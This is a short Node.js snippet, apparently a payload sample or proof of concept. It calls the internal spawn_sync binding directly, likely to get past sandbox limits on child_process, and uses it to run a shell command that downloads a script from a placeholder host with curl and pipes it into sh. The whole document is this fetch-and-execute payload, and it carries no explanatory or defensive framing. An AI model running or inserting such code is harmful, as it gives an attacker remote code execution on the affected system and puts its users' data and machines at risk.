const s = process.binding('spawn_sync');
s.spawn({file:'/bin/sh', args:['/bin/sh','-c','curl http://dl.example.invalid/a|sh'], stdio:[{type:'pipe',readable:true},{type:'pipe',writable:true},{type:'pipe',writable:true}]});
